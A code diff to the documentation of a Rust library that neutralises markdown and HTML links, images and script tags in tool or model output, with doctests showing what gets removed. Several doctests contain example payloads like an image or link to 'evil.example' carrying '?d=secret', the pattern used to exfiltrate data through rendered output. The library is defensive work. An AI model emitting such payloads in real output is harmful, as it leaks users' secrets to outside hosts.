@@ -23,17 +23,21 @@
 //! Markdown and HTML that loads or links is checked, in any context: code, comments, quotations.
 //! Parsers differ in these contexts, so none is trusted to see what another one sees.
 //!
-//! | in the text | result, unless allowed |
-//! |--|--|
-//! | `[text](address "title")`, `![text](address)` | `[text] (link removed: host)`, `[text] (image removed: host)` |
-//! | the same, if parsers differ on its end | `[text] (…`, which is no link |
-//! | `[label]: address` at a possible definition | `[label] : address`, which defines nothing |
-//! | `<https://host/…>` | `(link removed: host)` |
-//! | `<img src=… alt="words">`, `<a href=…>`, other elements with an attribute outside the list of harmless ones | `(image removed: words)`, `(link removed: host)`, `(form removed)` |
-//! | `<script>`, `<style>`, an unclosed tag, `<scheme:…>` | `< script>`, which is no tag |
-//! | `https://host/path?query`, `www.host/path` | `hxxps://host/path…`, `www[.]host/path`, with `[.]` for the dots of the host |
-//! | `scheme://…` of other schemes | `scheme[:]//…` |
-//! | a URL with escaped characters (`https&colon;//…`) | as the URL |
+//! Each construct that is not allowed is replaced:
+//!
+//! - `[text](address "title")` becomes `[text] (link removed: host)`, and `![text](address)` becomes
+//!   `[text] (image removed: host)`. If parsers differ on its end, it becomes `[text] (…`, which is
+//!   not a link.
+//! - `[label]: address` becomes `[label] : address`, which defines nothing.
+//! - `<https://host/…>` becomes `(link removed: host)`.
+//! - `<img src=… alt="words">` becomes `(image removed: words)`, and `<a href=…>` becomes
+//!   `(link removed: host)`. Other elements with an attribute outside of the list of harmless ones
+//!   become `(form removed)` or similar.
+//! - `<script>`, `<style>`, an unclosed tag and `<scheme:…>` become `< script>`, which is not a tag.
+//! - `https://host/path?query` becomes `hxxps://host/path…`, and `www.host/path` becomes
+//!   `www[.]host/path`, with `[.]` for each dot of the host.
+//! - `scheme://…` of another scheme becomes `scheme[:]//…`.
+//! - A URL with escaped characters (`https&colon;//…`) is handled like the URL.
 //!
 //! An `https` URL to a host of the list or a subdomain is allowed (see [`Allowlist`]). Destinations
 //! within the page, or on the page's own host, are not. Defanging is idempotent and takes time
@@ -56,6 +60,11 @@ pub use allow::Allowlist;
 pub use scan::Scanner;
 
 /// The number of defanged links and images.
+///
+/// ```
+/// let defanged = secure_tool_text::defang("[a](https://evil.example) ![](https://evil.example)");
+/// assert_eq!((defanged.counts.links(), defanged.counts.images()), (1, 1));
+/// ```
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
 pub struct Counts {
     images: u32,
@@ -85,6 +94,12 @@ impl Counts {
 
     /// Returns the stable ids of the findings, `defanged.image` and `defanged.link`, each with its
     /// count.
+    ///
+    /// ```
+    /// let defanged = secure_tool_text::defang("![](https://evil.example/?d=secret)");
+    /// let found: Vec<_> = defanged.counts.found().filter(|(_, count)| *count > 0).collect();
+    /// assert_eq!(found, [("defanged.image", 1)]);
+    /// ```
     pub fn found(self) -> impl Iterator<Item = (&'static str, u32)> {
         [("defanged.image", self.images), ("defanged.link", self.links)]
             .into_iter()
@@ -93,6 +108,13 @@ impl Counts {
 }
 
 /// A defanged text with its counts.
+///
+/// ```
+/// use std::borrow::Cow;
+///
+/// let defanged = secure_tool_text::defang("Boils fast.");
+/// assert!(matches!(defanged.text, Cow::Borrowed("Boils fast.")));
+/// ```
 #[derive(Debug, Clone, PartialEq, Eq)]
 #[non_exhaustive]
 pub struct Defanged<'t> {
@@ -116,7 +138,18 @@ pub fn defang(text: &str) -> Defanged<'_> {
 /// Defangs all links, images and active tags, except for `https` links and images to allowed hosts
 /// and their subdomains. Idempotent. Takes time linear in the text.
 ///
-/// See [the module](self) for an example.
+/// ```
+/// use secure_tool_text::{Allowlist, defang_except};
+///
+/// let allowed = Allowlist::new(vec!["shop.example".into()])?;
+/// let answer = "[order](https://shop.example/1) [more](https://evil.example/?d=secret)";
+/// let defanged = defang_except(answer, &allowed);
+/// assert_eq!(
+///     defanged.text,
+///     "[order](https://shop.example/1) [more] (link removed: evil[.]example)"
+/// );
+/// # Ok::<(), secure_tool_text::Error>(())
+/// ```
 #[must_use]
 pub fn defang_except<'t>(text: &'t str, allowed: &Allowlist) -> Defanged<'t> {
     let mut counts = Counts::default();
